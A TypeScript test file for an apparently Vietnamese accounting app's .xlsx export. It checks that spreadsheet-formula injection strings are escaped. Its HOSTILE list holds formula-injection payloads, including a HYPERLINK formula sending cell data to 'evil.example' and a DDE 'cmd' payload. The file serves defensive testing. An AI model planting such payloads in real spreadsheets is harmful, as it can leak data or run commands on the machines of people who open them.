import { expect } from "chai";
import { unzipSync, strFromU8 } from "fflate";
import { readSheet } from "read-excel-file/node";
import { buildEstimate } from "../../server/money/buildEstimate.js";
import { demoRates } from "../../server/money/demoRates.js";
import type { EstimateLine } from "../../server/money/types.js";
import { defineSheet, escapeCellText, MONEY_FORMAT, writeWorkbook } from "../../server/exports/xlsx.js";

type PaymentRow = { payee: string; description: string; amount: number; tax: number; paidOn: string; voucher: string };

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
  "=1+2",
  "+84 915 226 318",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=cmd|' /C calc'!A0",
  "\r=2*3",
];

const payments: PaymentRow[] = [
  {
    payee: "PGS.TS. Nguyễn Thị Phương Thảo",
    description: "Bài nhận xét, phản biện",
    amount: 2_400_000,
    tax: 240_000,
    paidOn: "2027-05-20",
    voucher: "PC-2027-015",
  },
  {
    payee: "Trần Đức Hưng",
    description: "Đảo bút toán chi trùng",
    amount: -1_200_000,
    tax: 0,
    paidOn: "2027-05-21",
    voucher: "PC-2027-019",
  },
  ...HOSTILE.map((text, i) => ({
    payee: text,
    description: `Ghi chú độc hại ${i + 1}: ${text}`,
    amount: 1_000_000 + i,
    tax: 0,
    paidOn: "2027-06-01",
    voucher: text,
  })),
];

function paymentSheet(rows: PaymentRow[]) {
  return defineSheet<PaymentRow>({
    name: "Chi trả năm 2027",
    rows,
    columns: [
      { header: "Người nhận", kind: "text", value: (r) => r.payee },
      { header: "Nội dung", kind: "text", value: (r) => r.description },
      { header: "Số tiền (đồng)", kind: "money", value: (r) => r.amount },
      { header: "Thuế TNCN (đồng)", kind: "money", value: (r) => r.tax },
      { header: "Ngày chi", kind: "day", value: (r) => r.paidOn },
      { header: "Số chứng từ", kind: "text", value: (r) => r.voucher },
    ],
  });
}

function estimateSheet(lines: EstimateLine[]) {
  return defineSheet<EstimateLine>({
    name: "Dự toán: PB-2027/014",
    rows: lines,
    columns: [
      { header: "Nội dung chi", kind: "text", value: (l) => l.label },
      { header: "Đơn vị tính", kind: "text", value: (l) => l.unit },
      { header: "Số lượng", kind: "count", value: (l) => l.quantity },
      { header: "Đơn giá (đồng)", kind: "money", value: (l) => l.unitAmount },
      { header: "Thành tiền (đồng)", kind: "money", value: (l) => l.amount },
    ],
  });
}

const code = async (p: Promise<unknown>) => {
  try {
    await p;
  } catch (err) {
    return (err as { code?: string }).code;
  }
  return "no error";
};

describe("exports: .xlsx workbooks for the accountant", () => {
  const estimate = buildEstimate({
    on: "2027-03-01",
    rates: demoRates(),
    panel: { chair: 1, secretary: 1, reviewer: 2, member: 3 },
    forms: ["council", "workshop"],
  });
  let book: Buffer;

  before(async () => {
    book = await writeWorkbook([estimateSheet(estimate.lines), paymentSheet(payments)]);
  });

  it("escapes every text that a spreadsheet would read as a formula, and nothing else", () => {
    expect(HOSTILE.map(escapeCellText)).to.deep.equal(HOSTILE.map((t) => `'${t}`));
    for (const safe of ["Nguyễn Thị Phương Thảo", "PC-2027-015", "1.234.567", " =1+1", "Ý kiến: =đồng ý"]) {
      expect(escapeCellText(safe)).to.equal(safe);
    }
    expect(escapeCellText("Nguye\u0302\u0303n")).to.equal("Nguyễn");
  });

  it("writes a real workbook that reads back with Vietnamese intact and amounts as numbers", async () => {
    expect(book.subarray(0, 2).toString("latin1")).to.equal("PK");
    const rows = await readSheet(book, "Chi trả năm 2027");
    expect(rows[0]).to.deep.equal([
      "Người nhận",
      "Nội dung",
      "Số tiền (đồng)",
      "Thuế TNCN (đồng)",
      "Ngày chi",
      "Số chứng từ",
    ]);
    expect(rows[1]).to.deep.equal([
      "PGS.TS. Nguyễn Thị Phương Thảo",
      "Bài nhận xét, phản biện",
      2_400_000,
      240_000,
      new Date("2027-05-20T00:00:00Z"),
      "PC-2027-015",
    ]);
    expect(rows[2][2]).to.equal(-1_200_000);
    expect(rows.length).to.equal(payments.length + 1);
  });

  it("reads every hostile cell back as escaped text, never as a formula or a number", async () => {
    const rows = await readSheet(book, "Chi trả năm 2027");
    HOSTILE.forEach((text, i) => {
      const row = rows[3 + i];
      expect(row[0], JSON.stringify(text)).to.equal(`'${text}`);
      expect(row[5]).to.equal(`'${text}`);
      expect(row[1]).to.equal(`Ghi chú độc hại ${i + 1}: ${text}`);
      expect(row[2]).to.equal(1_000_000 + i);
    });
    const files = unzipSync(new Uint8Array(book));
    const sheets = Object.keys(files).filter((f) => /^xl\/worksheets\/sheet\d+\.xml$/.test(f));
    expect(sheets).to.have.length(2);
    for (const f of sheets) expect(strFromU8(files[f])).to.not.match(/<f[ >]/);
  });

  it("formats amounts with thousands separators and keeps the estimate's totals exact", async () => {
    const files = unzipSync(new Uint8Array(book));
    expect(strFromU8(files["xl/styles.xml"])).to.include(`formatCode="${MONEY_FORMAT}"`);
    const rows = await readSheet(book, "Dự toán PB-2027 014");
    expect(rows[0]).to.deep.equal(["Nội dung chi", "Đơn vị tính", "Số lượng", "Đơn giá (đồng)", "Thành tiền (đồng)"]);
    const amounts = rows.slice(1).map((r) => r[4] as number);
    expect(amounts.reduce((s, a) => s + a, 0)).to.equal(estimate.subtotal);
    expect(rows[1]).to.deep.equal([
      "Bài nhận xét, phản biện của Chủ tịch Hội đồng, Tổ trưởng",
      "bài",
      1,
      2_400_000,
      2_400_000,
    ]);
  });

  it("refuses fractional amounts, bad days and two sheets of one name", async () => {
    const bad = (p: Partial<PaymentRow>) => writeWorkbook([paymentSheet([{ ...payments[0], ...p }])]);
    expect(await code(bad({ amount: 1_000_000.5 }))).to.equal("invalid_amount");
    expect(await code(bad({ paidOn: "20/05/2027" }))).to.equal("invalid_date");
    expect(await code(writeWorkbook([paymentSheet([]), paymentSheet([])]))).to.equal("duplicate_sheet");
  });
});
